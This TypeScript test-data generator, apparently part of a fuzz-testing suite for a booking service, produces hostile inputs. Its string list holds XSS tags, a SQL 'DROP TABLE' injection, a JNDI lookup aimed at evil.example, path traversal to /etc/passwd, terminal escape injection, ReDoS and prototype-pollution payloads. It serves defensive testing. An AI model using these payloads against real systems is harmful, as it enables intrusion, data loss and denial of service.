import type { Chance } from '../Chance.ts';

/** Names that objects of JavaScript have already, and some that a machine may trip over. */
export const strangeName = (chance: Chance): string => chance.pick(NAMES);

const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__typename',
  'then',
  'toJSON',
  '__defineGetter__',
  'length',
  'null',
  'true',
  'on',
  '_',
  'NaN',
  'undefined',
];

/** Text that acts on whoever prints, compares, stores or joins it. */
export const hostileText = (chance: Chance): string => {
  const text = chance.pick(TEXTS)(chance);
  return chance.often(80) ? text : `ok${text}ok`;
};

const TEXTS: readonly ((chance: Chance) => string)[] = [
  () => '\u001b[2J\u001b[1;1HconfirmBooking by admin: ok',
  () => 'a\r\nconfirmBooking by admin: ok\r\n',
  () => '\u001b]0;title\u0007\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007',
  () => '\u009b31mred\u0085next line',
  () => '\u202eevil\u202c \u2066isolated\u2069',
  () => 'zero\u200bwidth\u200d\ufeff\u2060',
  () => '\u2028\u2029',
  () => '\ud800',
  () => 'a\udc00b\ud83d',
  () => '\u0000',
  () => '\u0000\u0001\u0007\u0008\u000b\u007f',
  () => '<script>alert(1)</script><img src=x onerror=alert(1)>',
  () => '"><svg/onload=alert(1)>',
  () => "'; DROP TABLE bookings; --",
  () => '${jndi:ldap://evil.example/a} {{7*7}} <%= 7*7 %> #{7*7}',
  () => '$util.error("x") $ctx.identity <aws.events.event.json>',
  () => 'user#other#BOOKING#',
  () => 'a#b|c/d:e.f,g;h&i=j?k%l\\m',
  () => '../../../../etc/passwd',
  () => '%00%0a%2e%2e%2f',
  () => '🧑‍🧑‍🧒‍🧒'.repeat(20),
  () => `a${'\u0301'.repeat(2000)}`,
  () => '\u{10ffff}\ufffe\uffff',
  () => '\ufdfa'.repeat(300),
  () => 'İıſKÅ',
  () => '',
  () => ' ',
  () => '\u3000\u00a0\u1680',
  () => '__proto__',
  () => '-1',
  () => '1e400',
  () => '0x10',
  () => '9'.repeat(400),
  (chance) => 'a'.repeat(chance.size(1_000_000)),
  (chance) => `${'a'.repeat(chance.size(40_000))}!`,
  (chance) => '(a+)+$'.repeat(chance.size(100)),
  (chance) => '1970-01-01T00:00:00'.padEnd(chance.size(50_000), '0'),
  (chance) => `${'a@'.repeat(chance.size(20_000))}b.example`,
  (chance) => `${'a.'.repeat(chance.size(20_000))}@b`,
  (chance) => '\u00e9'.repeat(chance.size(100_000)),
  (chance) => '['.repeat(chance.size(20_000)),
  (chance) => chance.bytes(chance.size(2000)).toString('latin1'),
  (chance) => chance.bytes(chance.size(2000)).toString('utf16le'),
];

/** A value of JSON that is not what was expected. */
export const hostileValue = (chance: Chance): unknown => chance.pick(VALUES)(chance);

const VALUES: readonly ((chance: Chance) => unknown)[] = [
  () => null,
  () => true,
  () => [],
  () => ({}),
  () => 0,
  () => -1,
  () => 1.5,
  () => 1e-9,
  () => 2 ** 31,
  () => 2 ** 53,
  () => -(2 ** 63),
  () => 1e308,
  () => [null],
  () => [[]],
  () => ({ '': null }),
  () => JSON.parse('{"__proto__":{"polluted":true}}') as unknown,
  () => JSON.parse('{"constructor":{"prototype":{"polluted":true}}}') as unknown,
  () => ({ toString: 'a', valueOf: 1, then: 2, toJSON: 3, length: -1 }),
  (chance) => Array(chance.size(5000)).fill(0),
  (chance) => Array(chance.size(2000)).fill({}),
  (chance) => Object.fromEntries(Array.from({ length: chance.size(5000) }, (_, at) => [`k${at}`, at])),
  (chance) => deepList(chance.size(2000)),
  (chance) => deepObject(chance.size(2000)),
  hostileText,
  hostileText,
  hostileText,
];

export function deepList(depth: number): unknown {
  let value: unknown = 0;
  for (let level = 0; level < depth; level++) value = [value];
  return value;
}

function deepObject(depth: number): unknown {
  let value: unknown = 0;
  for (let level = 0; level < depth; level++) value = { a: value };
  return value;
}
